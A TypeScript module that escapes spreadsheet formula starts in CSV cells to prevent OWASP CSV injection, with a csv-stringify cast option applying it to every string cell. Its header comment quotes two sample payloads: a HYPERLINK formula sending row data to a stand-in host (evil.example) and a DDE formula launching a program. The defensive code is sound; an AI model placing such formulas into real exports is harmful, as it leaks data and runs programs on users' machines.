/**
 * OWASP "CSV Injection": a spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` as a formula
 * (`=HYPERLINK("http://evil.example/?d="&B2,"Refund")` sends the row away; `=cmd|' /C calc'!A0` starts
 * a program), and a leading tab or carriage return hides such a start from a naive check.
 */
const FORMULA_START = /^[=+\-@\t\r]/;
/** A plain decimal number (`-12.05`, `42`): a spreadsheet reads it as a number, never as a formula. */
const PLAIN_NUMBER = /^-?\d+(\.\d+)?$/;

/**
 * A text cell as every CSV the product writes holds it: one that a spreadsheet would take for a
 * formula gets a leading `'` (OWASP), so it is shown as the text it is. Plain numbers (negative money
 * amounts in dollars) are not formulas and stay numbers.
 */
export function csvText(value: string): string {
  return FORMULA_START.test(value) && !PLAIN_NUMBER.test(value) ? `'${value}` : value;
}

/**
 * The `cast` option of csv-stringify that passes every string cell (header, text, a date, a number
 * written as text) through `csvText`; numbers, booleans and dates keep csv-stringify's own casts.
 * Every `stringify` of the product takes it: `stringify(records, { ...options, cast: csvCast })`.
 */
export const csvCast = { string: (value: string) => csvText(value) } as const;
